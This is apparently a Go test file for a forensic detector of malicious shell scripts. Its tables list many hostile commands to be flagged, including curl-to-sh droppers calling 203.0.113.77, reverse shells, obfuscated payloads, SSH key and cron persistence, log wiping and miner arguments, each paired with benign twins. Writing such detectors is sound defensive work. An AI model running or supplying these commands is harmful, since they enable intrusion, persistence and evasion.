package shell

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"encoding/hex"
	"errors"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"icecore/forensics/artifact"
)

func encode(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

// TestTraits: each trait with lines that have it, and twins that differ in what
// decides. Traits in want that begin with ! must be missing; of a twin, all but
// those named are.
// TestMiddle: what of a long script was not read is said, and its end is read.
func TestMiddle(t *testing.T) {
	short := "#!/bin/sh\n: " + strings.Repeat("x", 1000) + "\n/tmp/a\n"
	long := "#!/bin/sh\n" + strings.Repeat(": nothing to see in this line\n", 40_000) + "/tmp/a\n"
	for text, unread := range map[string]bool{short: false, long: true} {
		var r artifact.Record
		content := io.NewSectionReader(strings.NewReader(text), 0, int64(len(text)))
		if err := AddScript(&r, content); errors.Is(err, ErrMiddle) != unread || r.Get("traits") != "temp_exec" || text[r.Source.Offset:][:6] != "/tmp/a" {
			t.Errorf("%d bytes: %v, %q at %d", len(text), err, r.Get("traits"), r.Source.Offset)
		}
		list, err := ReadStatements(content)
		if errors.Is(err, ErrMiddle) != unread || len(list) == 0 || list[len(list)-1].Text != "/tmp/a" {
			t.Errorf("%d bytes: %v, %d statements", len(text), err, len(list))
		}
	}
}

// TestCode: of other interpreters the calls that stand together count.
func TestCode(t *testing.T) {
	library := strings.Repeat("def f(x):\n    return x + 1\n\n", 1000)
	for _, tt := range []struct{ interpreter, code, want string }{
		{"python", "import urllib.request as u\nr = u.urlopen('http://203.0.113.77/a').read()\nexec(r)\n", "interpreter_fetch,pipe_to_shell"},
		{"python", "import os, urllib.request as u\nu.urlretrieve('http://203.0.113.77/a', '/usr/lib/a')\nos.chmod('/usr/lib/a', 0o755)\nos.system('/usr/lib/a')\n", "fetch_exec,interpreter_fetch"},
		{"python", "import base64, os\nd = base64.b64decode('Y3VybCAtZnNTTCBodHRwOi8vMjAzLjAuMTEzLjc3L3Quc2ggfCBzaA==')\nos.system(d)\n", "decode_exec,encoded,fetch,pipe_to_shell"},
		{"python", "import base64, zlib\nexec(zlib.decompress(base64.b64decode(open('/usr/share/x').read())))\n", "decode_exec"},
		{"perl", "use Socket; socket(S,PF_INET,SOCK_STREAM,6); connect(S,$p); open(STDIN,\">&S\"); exec(\"/bin/sh -i\");", "reverse_shell"},
		{"perl", "use MIME::Base64; eval(decode_base64(<DATA>));", "decode_exec"},
		// What honest programs do.
		{"python", "import urllib.request, os, subprocess\nurllib.request.urlretrieve('https://geo.example/db.tgz', '/var/lib/geo/db.tgz')\nos.chmod('/var/lib/geo/db.tgz', 0o644)\nsubprocess.check_call(['systemctl', 'reload', 'nginx'])\n", "interpreter_fetch"},
		{"python", "import base64, re, requests, subprocess\nT = base64.b64decode(open('/etc/app/token').read())\nx = re.compile('a')\nr = requests.get('https://api.example/v1', headers={'a': T})\nsubprocess.run(['mail', 'ops'], input=r.content)\n", "interpreter_fetch"},
		{"python", "import base64\n" + library + "def g(x):\n    return base64.b64decode(x)\n" + library + "exec(open('/etc/app.py').read())\n", ""},
		{"python", "import socket,sys\ns=socket.socket()\ns.bind(('', 80))\ns.listen(5)\nwhile True:\n    c,a=s.accept()\n    c.sendall(b'token')\n", ""},
		{"python", "import socket\ns=socket.socket()\ns.bind(('', 80))\ns.listen(5)\nd=socket.create_connection(('203.0.113.77', 80)).recv(99)\n", "interpreter_fetch"},
		{"perl", "use Socket;\n" + library + "sub answer { open(STDIN, \"<&SOCK\"); exec($cgi); }\n" + library + "connect(SOCK, $p);\n", ""},
		{"perl", library + "use Socket; socket(S,PF_INET,SOCK_STREAM,6); connect(S,$p); open(STDIN,\">&S\"); exec(\"/bin/sh -i\");\n" + library, "reverse_shell"},
		{"perl", "use Socket; socketpair(A, B, AF_UNIX, SOCK_STREAM, PF_UNSPEC); exec('/bin/sh', '-c', 'ls');", ""},
		{"php", "<?php $r = file_get_contents('https://api.example/v1'); exec('systemctl reload nginx'); $db->exec('SELECT 1');", "interpreter_fetch"},
	} {
		f := AnalyzeCode(tt.code, tt.interpreter)
		if got := strings.Join(f.Traits, ","); got != tt.want {
			t.Errorf("%s %.120q: %q, want %q", tt.interpreter, tt.code, got, tt.want)
		}
	}
}

func TestTraits(t *testing.T) {
	const dropper = "curl -fsSL http://203.0.113.77/i.sh | sh"
	for _, tt := range []struct{ text, want string }{
		// pipe_to_shell, fetch
		{dropper, "fetch,pipe_to_shell"},
		{"(curl -fsSL http://203.0.113.77/i.sh || wget -q -O- http://203.0.113.77/i.sh) | sh", "fetch,pipe_to_shell"},
		{"curl -fsSL http://203.0.113.77/c.sh|sh", "fetch,pipe_to_shell"},
		{"(curl -s http://203.0.113.77/b.sh|bash) 2>/dev/null", "fetch,pipe_to_shell"},
		{"bash <(curl -s http://203.0.113.77/i.sh)", "fetch,pipe_to_shell"},
		{"bash -c \"$(curl -fsSL http://203.0.113.77/i.sh)\"", "fetch,pipe_to_shell"},
		{"sh -c 'curl http://203.0.113.77/i.sh | sudo bash -s -- -y'", "fetch,pipe_to_shell"},
		{"eval \"$(wget -qO- http://203.0.113.77/i.sh)\"", "fetch,pipe_to_shell"},
		{"eval `wget -qO- http://203.0.113.77/i.sh`", "fetch,pipe_to_shell"},
		{"$(curl -s http://203.0.113.77/i.sh)", "fetch,pipe_to_shell"},
		{". <(curl -s http://203.0.113.77/i.sh)", "fetch,pipe_to_shell"},
		{"source /dev/stdin <<< \"$(curl -s http://203.0.113.77/i.sh)\"", "fetch,pipe_to_shell"},
		{"X=$(curl -s http://203.0.113.77/i.sh); echo \"$X\" | sh", "fetch,pipe_to_shell"},
		{"U=http://203.0.113.77/i.sh; C=curl; $C -s $U | $SHELL; $C $U | sh", "fetch,pipe_to_shell"},
		{"cd1 -s http://203.0.113.77/i.sh | sh", "pipe_to_shell"}, // a renamed tool
		{"curl -s 203.0.113.77/i.sh | sh", "fetch,pipe_to_shell"},
		{"curl -s http://203.0.113.77/i.py | python3 -", "fetch,pipe_to_shell"},
		{"curl${IFS}-s${IFS}http://203.0.113.77/i.sh|sh", "fetch,pipe_to_shell"},
		{"{curl,-s,http://203.0.113.77/i.sh}|sh", "fetch,pipe_to_shell"},
		{`c\u''rl -s http://203.0.113.77/i.sh | s"h"`, "fetch,pipe_to_shell"},
		{"curl -s http://203.0.113.77/i.gz | gunzip | sh", "fetch,pipe_to_shell"},
		{"curl -s http://203.0.113.77/i.sh | while read l; do $l; done", "fetch,pipe_to_shell"},
		{"get() { curl -s http://203.0.113.77/i.sh; }\nget | sh", "fetch,pipe_to_shell"},
		{"if which curl; then curl -s http://203.0.113.77/i; else wget -qO- http://203.0.113.77/i; fi | bash", "fetch,pipe_to_shell"},
		{"nohup sh -c 'wget -q -O - http://203.0.113.77/i.sh | sh' >/dev/null 2>&1 &", "background,fetch,pipe_to_shell"},
		{"flock -n /tmp/.lock -c '" + dropper + "'", "fetch,pipe_to_shell"},
		{"su - postgres -c '" + dropper + "'", "fetch,pipe_to_shell"},
		{"docker run -v /:/mnt alpine chroot /mnt sh -c '" + dropper + "'", "fetch,pipe_to_shell"},
		{"sh <<EOF\n" + dropper + "\nEOF", "fetch,pipe_to_shell"},
		{"trap '" + dropper + "' EXIT", "fetch,pipe_to_shell"},
		{"dig +short txt c.example.invalid | sh", "pipe_to_shell"},
		{"nc 203.0.113.77 443 | sh", "pipe_to_shell"},
		{"curl -fsS -m 10 --retry 5 https://hc.example.com/ping/web01 >/dev/null", "fetch"},
		{"pg_dumpall -U postgres | gzip > /var/backups/pg.sql.gz && curl -fsS https://hc.example.com/ping >/dev/null", "fetch"},
		{"curl -s https://api.example.com/v1 | jq -r .tag", "fetch"},
		{"curl -fsSL https://download.example.com/gpg | gpg --dearmor -o /etc/apt/keyrings/x.gpg", "fetch"},
		{"curl -fsSL https://example.com/list | sudo tee /etc/apt/sources.list.d/x.list", "fetch"},
		{"echo 'curl http://203.0.113.77/i.sh | sh'", ""},
		{"echo \"to install: " + dropper + "\" >&2", ""},
		{"# " + dropper, ""},
		{"ls # " + dropper, ""},
		{"logger -t x '" + dropper + "'", ""},
		{"grep -r 'curl http://203.0.113.77 | sh' /var/log", ""},
		{"cat <<EOF\nrun: " + dropper + "\nEOF", ""},
		{"[ -x /usr/bin/curl ] || exit 0", ""},
		{"eval \"$(ssh-agent -s)\"", ""},
		{"eval \"$(dircolors -b)\"", ""},
		{"ls | sh", ""},
		{"VERSION=$(curl -s https://example.com/v); echo $VERSION", "fetch"},
		// fetch_exec
		{"wget -q http://203.0.113.77/x -O /tmp/a; chmod +x /tmp/a; /tmp/a", "fetch,fetch_exec,temp_exec"},
		{"cd /root; curl -sO http://203.0.113.77/x; chmod 777 x; ./x", "fetch,fetch_exec"},
		{"cd /root && wget http://203.0.113.77/a/x && sh x", "fetch,fetch_exec"},
		{"curl -o /opt/x http://203.0.113.77/x && bash /opt/x", "fetch,fetch_exec"},
		{"curl -so /opt/x http://203.0.113.77/x; nohup /opt/x &", "background,fetch,fetch_exec"},
		{"curl http://203.0.113.77/x > /opt/x; . /opt/x", "fetch,fetch_exec"},
		{"curl http://203.0.113.77/x > /opt/x; cat /opt/x | sh", "fetch,fetch_exec"},
		{"wget -P /opt http://203.0.113.77/x; cp /opt/x /usr/bin/y; /usr/bin/y", "fetch,fetch_exec"},
		{"wget http://203.0.113.77/x.tar.gz; tar xf x.tar.gz; ./x/run", "fetch,fetch_exec"},
		{"git clone https://example.invalid/x; cd x; ./run.sh", "fetch,fetch_exec"},
		{"wget -q http://203.0.113.77/x -O /srv/data.csv; /usr/local/bin/import /srv/data.csv", "fetch"},
		{"curl -o /opt/x http://203.0.113.77/x && sha256sum /opt/x", "fetch"},
		{"cd /root; curl -sO http://203.0.113.77/x; ./y", "fetch"},
		// decode_exec, encoded
		{"echo " + encode(dropper) + " | base64 -d | sh", "decode_exec,encoded,fetch,pipe_to_shell"},
		{"echo " + encode("echo "+encode(dropper)+" | base64 -d | sh") + " | base64 --decode | bash", "decode_exec,encoded,fetch,pipe_to_shell"},
		{"bash -c \"$(base64 -d <<< " + encode(dropper) + ")\"", "decode_exec,encoded,fetch,pipe_to_shell"},
		{"bash -c {echo," + encode(dropper) + "}|{base64,-d}|{bash,-i}", "decode_exec,encoded,fetch,pipe_to_shell"},
		{"python3 -c \"import base64;exec(base64.b64decode('" + encode("import os; os.system('"+dropper+"')") + "'))\"", "decode_exec,encoded,fetch,pipe_to_shell"},
		{"echo " + hex.EncodeToString([]byte(dropper)) + " | xxd -r -p | sh", "decode_exec,encoded,fetch,pipe_to_shell"},
		{"echo -e '" + escapes("curl -s http://203.0.113.77/i|sh") + "' | sh", "decode_exec,encoded,fetch,pipe_to_shell"},
		{"$'" + escapes("/tmp/.x/a") + "'", "hidden_exec,temp_exec"},
		{"echo " + encode("# 下载并运行\n"+dropper) + " | base64 -d | sh", "decode_exec,encoded,fetch,pipe_to_shell"},
		{"openssl enc -d -aes-256-cbc -in /opt/x -k y | sh", "decode_exec"},
		{"echo " + zipped(dropper) + " | base64 -d | gunzip | bash", "decode_exec,encoded,fetch,pipe_to_shell"},
		{"base64 -d /etc/key.b64 > /run/key", ""},
		{"curl -H 'Authorization: Bearer " + encode(`{"alg":"RS256","kid":"aaaaaaaaaaaaaaaaaaaaaaa"}`) + ".x.y' https://example.com", "fetch"},
		{"echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGoodGoodGoodGoodGoodGoodGoodGoodGoodGood a@b'", ""},
		{"sha256sum -c <<< 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855e3b0c44298fc1c149afbf4c8996fb924  x'", ""},
		// temp_exec
		{"/tmp/a", "temp_exec"},
		{"A=/tmp/x; $A", "temp_exec"},
		{"A=/tmp; B=x\n$A/$B &", "background,temp_exec"},
		{"cd /dev/shm && ./a", "temp_exec"},
		{"nohup timeout 5 sudo -u nobody nice -n 10 /var/tmp/a", "temp_exec"},
		{"env A=1 /tmp/a", "temp_exec"},
		{"sh /tmp/a.sh", "temp_exec"},
		{"python3 /tmp/a.py", "temp_exec"},
		{". /tmp/a", "temp_exec"},
		{"/lib64/ld-linux-x86-64.so.2 /tmp/a", "temp_exec"},
		{"(setsid /tmp/a >/dev/null 2>&1)", "background,temp_exec"},
		{"find /x -exec /tmp/a {} \\;", "temp_exec"},
		{"start-stop-daemon --start --background --exec /tmp/a -- -c x", "background,temp_exec"},
		{"screen -dmS x /tmp/a", "background,temp_exec"},
		{"exec -a '[kworker/0:0]' /tmp/a", "temp_exec"},
		{"if true; then /tmp/a; fi", "temp_exec"},
		{"${T:-/tmp}/a", "temp_exec"},
		{"alias ls=/tmp/a", "temp_exec"},
		{"perl -e 'system(\"/tmp/a -d\")'", "temp_exec"},
		{"flock -n /tmp/stargate.lock -c '/usr/local/qcloud/stargate/admin/start.sh'", ""},
		{"flock /tmp/x.lock /usr/bin/run", ""},
		{"rm -rf /tmp/x", ""},
		{"cat /tmp/x", ""},
		{"tar czf /tmp/b.tgz /etc", ""},
		{"/usr/bin/a /tmp/x", ""},
		{"kill $(cat /tmp/a.pid)", ""},
		{"find /tmp -mtime +7 -delete", ""},
		{"D=$(mktemp -d /tmp/x.XXXX); cd $D", ""},
		{"echo /tmp/a", ""},
		{"[ -f /tmp/a ] && rm /tmp/a", ""},
		{"command -v /tmp/a", ""},
		{"A=/tmp/x; echo $A", ""},
		{"exec >/tmp/log 2>&1", ""},
		// hidden_exec
		{"/usr/share/.x/a", "hidden_exec"},
		{"/usr/bin/.sshd-agent", "hidden_exec"},
		{"/root/.config/cron/a", "hidden_exec"},
		{"/home/u/.x/a", "hidden_exec"},
		{"$HOME/.cache/a", "hidden_exec"},
		{"~/.ssh/a", "hidden_exec"},
		{"./.x/a", "hidden_exec"},
		{"/tmp/.cargo/a", "hidden_exec,temp_exec"},
		{"/usr/lib/.npm/a", "hidden_exec"},
		{"sh /var/lib/.b/i.sh", "hidden_exec"},
		{"\"/root/.acme.sh\"/acme.sh --cron --home \"/root/.acme.sh\" > /dev/null", ""},
		{". \"$HOME/.nvm/nvm.sh\"", ""},
		{"/home/u/.cargo/bin/rg", ""},
		{"~/.local/bin/a", ""},
		{"/root/.pyenv/shims/python x", ""},
		{". ~/.bashrc", ""},
		{"[ -f ~/.bash_aliases ] && . ~/.bash_aliases", ""},
		{". /home/deploy/.profile", ""},
		{". \"${XDG_CONFIG_HOME:-$HOME/.config}/bash_completion\"", ""},
		{"/srv/app/node_modules/.bin/pm2 resurrect", ""},
		{"/srv/app/.venv/bin/python /srv/app/x.py", ""},
		{"cat /etc/.pwd.lock", ""},
		{"cd /srv/app && . ./.env && ./run", ""},
		{"rm -f /root/.x/a", ""},
		{"/opt/../usr/bin/a", ""},
		{"./a.sh", ""},
		// dots_dir
		{"cd /var/tmp/...; ./a", "dots_dir,hidden_exec,temp_exec"},
		{"mkdir '/usr/lib/ '; cp a '/usr/lib/ /'", "dots_dir"},
		{"/usr/lib/.../sshd", "dots_dir,hidden_exec"},
		{"ls '/tmp/.. /'", "dots_dir"},
		{"go test ./...", ""},
		{"echo ...", ""},
		{"sed 's/ /x/' f", ""},
		{"awk '/ /{print}' f", ""},
		{"echo 'in /a/... and so on'", ""},
		{"cd ../..", ""},
		// dev_tcp
		{"bash -i >& /dev/tcp/203.0.113.77/443 0>&1", "dev_tcp,reverse_shell"},
		{"exec 3<>/dev/tcp/203.0.113.77/80; cat <&3", "dev_tcp"},
		{"bash -c 'cat < /dev/tcp/203.0.113.77/80 | sh'", "dev_tcp,pipe_to_shell"},
		{"sh -i 5<> /dev/udp/203.0.113.77/53", "dev_tcp,reverse_shell"},
		{"echo /dev/tcp/203.0.113.77/443", ""},
		{"grep -r /dev/tcp/ /etc", ""},
		{"exec 5<>/dev/tcp/203.0.113.77/80; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&5; cat <&5 | sh", "dev_tcp,pipe_to_shell"},
		// reverse_shell
		{"bash -i >& /dev/tcp/203.0.113.77/443 0>&1 &", "background,dev_tcp,reverse_shell"},
		{"nc -e /bin/sh 203.0.113.77 4444", "reverse_shell"},
		{"rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.77 4444 > /tmp/f", "reverse_shell"},
		{"socat exec:'bash -li',pty tcp:203.0.113.77:4444", "reverse_shell"},
		{"python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.77\",4444));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'", "interpreter_fetch,reverse_shell"},
		{"nc -z localhost 22", ""},
		{"nc -l 80 < f", ""},
		{"bash -i", ""},
		{"cat f | nc 203.0.113.77 80", ""},
		{"socat TCP-LISTEN:80,fork TCP:localhost:8080", ""},
		{"content=$1; _len=\"$(printf %s \"$content\" | wc -c)\"; socat TCP-LISTEN:80,fork SYSTEM:\"sleep 1; echo 'HTTP/1.0 200 OK'; echo 'Content-Length\\: $_len'; echo ''; printf '%s' '$content';\"", ""},
		{"socat TCP-LISTEN:8080,fork EXEC:'/bin/cat /srv/status.txt'", ""},
		{"socat TCP:203.0.113.77:80 SYSTEM:'echo $(sh)'", "reverse_shell"},
		// history_off
		{"unset HISTFILE", "history_off"},
		{"export HISTFILE=/dev/null", "history_off"},
		{"set +o history", "history_off"},
		{"history -c", "history_off"},
		{"HISTSIZE=0", "history_off"},
		{"ln -sf /dev/null ~/.bash_history", "history_off"},
		{"rm -f /root/.bash_history", "history_off"},
		{"> ~/.bash_history", "history_off"},
		{"HISTSIZE=1000", ""},
		{"HISTFILE=~/.history", ""},
		{"history 10", ""},
		{"set -o history", ""},
		{"cat ~/.bash_history", ""},
		{"echo HISTFILE=/dev/null", ""},
		// chattr
		{"chattr +i /root/.ssh/authorized_keys", "chattr"},
		{"chattr -R -ia /etc/cron.d", "chattr"},
		{"chattr -ia /etc/ld.so.preload", "chattr"},
		{"chattr +C /var/lib/mysql", ""},
		{"lockr +ia /root/.ssh", "chattr"},
		{"tntrecht -R -ia /etc/cron.d", "chattr"},
		{"ls -ia /root/.ssh", ""},
		{"x -ia /root/.ssh.txt", ""},
		{"lsattr -a /etc", ""},
		{"echo chattr +i x", ""},
		// key_write
		{"echo 'ssh-rsa AAAA x' >> /root/.ssh/authorized_keys", "key_write"},
		{"cat k | tee -a ~/.ssh/authorized_keys", "key_write"},
		{"cp k /home/u/.ssh/authorized_keys", "key_write"},
		{"sed -i '$a ssh-rsa A' /root/.ssh/authorized_keys", "key_write"},
		{"mkdir -p /root/.ssh; cd /root/.ssh; echo k > authorized_keys", "key_write"},
		{"chmod 600 /root/.ssh/authorized_keys", ""},
		{"cat /root/.ssh/authorized_keys", ""},
		{"cp /root/.ssh/authorized_keys /backup/", ""},
		{"grep x ~/.ssh/authorized_keys > /tmp/out", ""},
		// preload_write
		{"echo /usr/local/lib/libx.so > /etc/ld.so.preload", "preload_write"},
		{"cp x /etc/ld.so.preload", "preload_write"},
		{"LD_PRELOAD=/tmp/x.so ls", "preload_env"},
		{"export LD_PRELOAD=/usr/lib/libhide.so", "preload_env"},
		{"env LD_PRELOAD=/lib/.x.so ls", "preload_env"},
		{"LD_PRELOAD=/opt/.x/libjemalloc.so a", "preload_env"},
		{"LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2 redis-server", ""},
		{"export LD_PRELOAD=libtcmalloc_minimal.so.4", ""},
		{"unset LD_PRELOAD", ""},
		{"LD_PRELOAD= ls", ""},
		{"cat /etc/ld.so.preload", ""},
		{"LD_PRELOAD=\"$FAKEROOT:$LD_PRELOAD\" a", ""},
		// cron_write
		{"echo '* * * * * root /usr/bin/a' > /etc/cron.d/a", "cron_write"},
		{"(crontab -l; echo '* * * * * /tmp/a') | crontab -", "cron_write,temp_exec"},
		{"crontab -r", "cron_write"},
		{"crontab /root/c", "cron_write"},
		{"cp a /etc/cron.hourly/", "cron_write"},
		{"tee /var/spool/cron/crontabs/root < a", "cron_write"},
		{"echo '*/5 * * * * " + dropper + "' >> /var/spool/cron/root", "cron_write,fetch,pipe_to_shell"},
		{"crontab -l", ""},
		{"rm -f /etc/cron.d/a", ""},
		{"ls /etc/cron.d > /dev/null", ""},
		{"[ -d /etc/cron.d ]", ""},
		{"run-parts /etc/cron.daily", ""},
		// log_wipe
		{"rm -f /var/log/auth.log", "log_wipe"},
		{"> /var/log/wtmp", "log_wipe"},
		{"cat /dev/null > /var/log/secure", "log_wipe"},
		{"echo > /var/log/btmp", "log_wipe"},
		{": > /var/log/lastlog", "log_wipe"},
		{"truncate -s 0 /var/log/syslog", "log_wipe"},
		{"rm -rf /var/log/*", "log_wipe"},
		{"shred -u /var/log/cron", "log_wipe"},
		{"find /var/log -type f -exec truncate -s0 {} +", "log_wipe"},
		{"sed -i '/203.0.113.77/d' /var/log/auth.log", "log_wipe"},
		{"journalctl --vacuum-time=1s", "log_wipe"},
		{"rm -f /var/log/app/old.log", ""},
		{"find /var/log -name '*.gz' -mtime +30 -delete", ""},
		{"journalctl --vacuum-time=7d", ""},
		{": > /var/log/nginx/access.log", ""},
		{"echo started >> /var/log/syslog", ""},
		{"grep x /var/log/auth.log", ""},
		{"date > /var/log/cron", ""},
		{"sed -i '/x/d' /etc/hosts", ""},
		// kill_list
		{"pkill -f kinsing; pkill -9 xmrig; killall kdevtmpfsi", "kill_list"},
		{"pkill -f 'kinsing|xmrig|masscan'", "kill_list"},
		{"for p in a b c; do pkill -9 $p; done", "kill_list"},
		{"killall -9 a b c", "kill_list"},
		{"ps aux | grep a1 | grep -v grep | awk '{print $2}' | xargs kill -9\nps aux|grep b1|awk '{print $2}'|xargs -I % kill -9 %\nkill -9 $(pgrep c1)", "kill_list"},
		{"for p in $(ps -ef | grep a1 | awk '{print $2}'); do kill -9 $p; done\nkill `pidof b1`; pkill c1", "kill_list"},
		{"pkill -HUP a; pkill -HUP b; pkill -USR1 c", ""},
		{"pkill a; pkill a; pkill a", ""},
		{"killall nginx", ""},
		{"ps aux | grep a | grep b | wc -l", ""},
		{"kill -9 $(cat /run/a.pid)", ""},
		{"killall5 -15", ""},
		// miner_args
		{"/usr/bin/x -o stratum+tcp://203.0.113.77:3333 -u w", "miner_args"},
		{"x --donate-level 1", "miner_args"},
		{"x -a rx/0 -o pool.example.invalid:443 -u w -p x", "miner_args"},
		{"x -o pool.example.invalid:3333 -u w -p x -k", "miner_args"},
		{"x --coin=monero -o a:1", "miner_args"},
		{"echo x; nohup y --cpu-max-threads-hint=75", "miner_args"},
		{"curl -o out.bin:1 -u user:pw https://example.com", "fetch"},
		{"ssh -o StrictHostKeyChecking=no -p 22 u@h", ""},
		{"mysql -u root -p x", ""},
		{"echo --donate-level", ""},
		{"ssh-keygen -a 100 -t ed25519", ""},
		{"useradd -u 1000 -p x -o a", "account_write"},
		{"grep stratum+tcp:// /var/log/syslog", ""},
		// interpreter_fetch
		{"python3 -c \"import urllib.request as u; exec(u.urlopen('http://203.0.113.77/x').read())\"", "interpreter_fetch,pipe_to_shell"},
		{"perl -MLWP::Simple -e 'getprint(\"http://203.0.113.77/x\")'", "interpreter_fetch"},
		{"php -r 'eval(file_get_contents(\"http://203.0.113.77/x\"));'", "interpreter_fetch,pipe_to_shell"},
		{"python3 -c 'import requests; print(requests.get(\"https://api.example/v1\").json())'", "interpreter_fetch"},
		{"php -r 'echo file_get_contents(\"https://api.example/v1\");'", "interpreter_fetch"},
		{"node -e \"require('http').get('http://203.0.113.77/x',r=>r.on('data',d=>eval(d.toString())))\"", "interpreter_fetch,pipe_to_shell"},
		{"lua -e \"os.execute('curl -s 203.0.113.77/x|sh')\"", "fetch,pipe_to_shell"},
		{"lua -e \"print(os.time())\"", ""},
		{"echo \"hs | x/77.311.0.302//:ptth s- lruc\" | rev | sh", "decode_exec,fetch,pipe_to_shell"},
		{"echo abc | rev", ""},
		{"ls | rev | cut -c 2-", ""},
		{"echo phey | tr a-z n-za-m | sh", "decode_exec"},
		{"echo \"$PATH\" | tr : '\\n'", ""},
		{"a=cu;b=rl;$a$b -s http://203.0.113.77/x|s${c}h", "fetch,pipe_to_shell"},
		{"cu$@rl -s http://203.0.113.77/x|ba$*sh", "fetch,pipe_to_shell"},
		{"curl -sL http://203.0.113.77/k -o /usr/games/k && chmod +x $_ && $_", "fetch,fetch_exec"},
		{"/tmp/.x/sh -c true", "hidden_exec,temp_exec"},
		{"/dev/shm/busybox ls", "temp_exec"},
		{"/var/tmp/python3 -V", "temp_exec"},
		{"/bin/sh -c true", ""},
		{"mkdir -p /srv/app && cd $_ && ls", ""},
		{"busybox tftp -g -r x.sh 203.0.113.77; sh x.sh", "fetch,fetch_exec"},
		{". ~/.bash.d/prompt.sh", ""},
		{". ~/.bashrc.d/a", ""},
		{". ~/.x.d/a", "hidden_exec"},
		{"~/.bash.d/a", "hidden_exec"},
		{". \"$LE_WORKING_DIR/.acme.env\"", ""},
		{"export BASH_ENV=/tmp/e", "temp_exec"},
		{"export ENV=production", ""},
		{"export ENV=$HOME/.kshrc", ""},
		{". \"$HOME/.mavenrc\"", ""},
		{". /usr/lib/.x/rc", "hidden_exec"},
		{"/usr/sbin/httpd -o [2001:db8::5]:3333 -u w -p x -k", "miner_args"},
		{"/usr/sbin/sshd -o [2001:db8::5]:3333 -u w", ""},
		{"python3 - <<'E'\nimport requests\nrequests.get('http://203.0.113.77')\nE", "interpreter_fetch"},
		{"#!/usr/bin/env python3\nimport urllib.request\nurllib.request.urlopen('http://203.0.113.77/x')\n", "interpreter_fetch"},
		{"py3compile -p python3-urllib3", ""},
		{"python3 -m http.server", ""},
		{"python3 -c 'print(1)'", ""},
		{"perl -pe 's/a/b/' f", ""},
		{"#!/usr/bin/python3\n# urlopen('http://203.0.113.77')\nprint(1)\n", ""},
		{"pip install requests", ""},
		// path_odd, alias_filter, background
		{"export PATH=/tmp/.x:$PATH", "path_odd"},
		{"PATH=/usr/lib/.b:$PATH", "path_odd"},
		{"export PATH=$HOME/.local/bin:$HOME/.cargo/bin:$PATH", ""},
		{"PATH=/usr/local/sbin:/usr/sbin", ""},
		{"alias ps='ps \"$@\" | grep -v xmrig'", "alias_filter"},
		{"alias ll='ls -l'", ""},
		{"alias grep='grep --color=auto'", ""},
		{"sleep 1 &", "background"},
		{"a && b", ""},
		{"a 2>&1", ""},
		// a crontab written by a dropper; a script written and run
		{"cat > /etc/cron.d/x <<EOF\n* * * * * root " + dropper + "\nEOF", "cron_write,fetch,pipe_to_shell"},
		{"cat > /etc/systemd/system/x.service <<EOF\n[Service]\nExecStart=/tmp/.x/a\nEOF", "hidden_exec,startup_write,temp_exec"},
		{"echo '" + dropper + "' > /opt/a.sh; sh /opt/a.sh", "fetch,pipe_to_shell"},
		{"echo '" + dropper + "' > /opt/a.sh", ""},
		// no valid shell
		{"if [ x ]; then " + dropper, "fetch,pipe_to_shell"},
		{"((( " + dropper, "fetch,pipe_to_shell"},
		{"fi\n# " + dropper, ""},
		{"<?php\n/tmp/.x/a &\n", "background,hidden_exec,temp_exec"},
		{"a )\n/tmp/a\n(\n", "temp_exec"},
		{"foo(\n" + dropper + "\n", "fetch,pipe_to_shell"},
		{"\x00\xff " + dropper, "pipe_to_shell"},
		{"don't run\n/usr/bin/x '\n", ""},
	} {
		f := Analyze(tt.text)
		if got := strings.Join(f.Traits, ","); got != tt.want {
			t.Errorf("%q:\n got %q\nwant %q (programs %q)", tt.text, got, tt.want, f.Programs)
		}
	}
}

func escapes(s string) string {
	var b strings.Builder
	for i := range len(s) {
		b.WriteString(`\x` + hex.EncodeToString([]byte{s[i]}))
	}
	return b.String()
}

func zipped(s string) string {
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	_, _ = z.Write([]byte(s))
	_ = z.Close()
	return base64.StdEncoding.EncodeToString(b.Bytes())
}

func TestPrograms(t *testing.T) {
	for _, tt := range []struct{ text, programs, urls string }{
		{"cd / && run-parts --report /etc/cron.hourly", "run-parts", ""},
		{"(curl -fsSL http://203.0.113.77/i.sh || wget -q -O- http://203.0.113.77/j.sh) | sh", "curl,wget,sh", "http://203.0.113.77/i.sh,http://203.0.113.77/j.sh"},
		{"nohup /tmp/.x/a -c /b >/dev/null 2>&1 &", "nohup,/tmp/.x/a", ""},
		{"A=/opt/x\n$A/run", "/opt/x/run", ""},
		{"cd /opt; ./run", "/opt/run", ""},
		{"sudo -u www-data env A=b /usr/bin/php -f /srv/x.php", "sudo,env,/usr/bin/php,/srv/x.php", ""},
		{"test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }", "test,run-parts", ""},
		{"curl 203.0.113.77:8080/x", "curl", "203.0.113.77:8080/x"},
		{"timeout -k 5 60 /usr/bin/a", "timeout,/usr/bin/a", ""},
		// A name may hold what separates names elsewhere.
		{"/usr/local/lib/k,d/xm,rig -o x", "/usr/local/lib/k,d/xm,rig", ""},
		{`"/opt/{a,b}/m"`, "/opt/{a,b}/m", ""},
		{"sh -c '/opt/a,b/run; /opt/c'", "sh,/opt/a,b/run,/opt/c", ""},
		{"'/tmp/.x/a\nb' -c /c", "/tmp/.x/a\nb", ""},
		// What is no UTF-8 is a name, too: Latin-1, GBK.
		{"/opt/\xe9/m -x; /opt/\xe9\xff/n", "/opt/\xe9/m,/opt/\xe9\xff/n", ""},
		{"/opt/caf\u00e9/\xe9\x01\x02/m", "/opt/caf\u00e9/\xe9\x01\x02/m", ""},
		{"sh -c '/opt/\xb5\xb1/m'", "sh,/opt/\xb5\xb1/m", ""},
		{"curl http://192.0.2.77/\xe9|sh", "curl,sh", "http://192.0.2.77/\xe9"},
		{"curl 192.0.2.77/j,k|sh", "curl,sh", "192.0.2.77/j,k"},
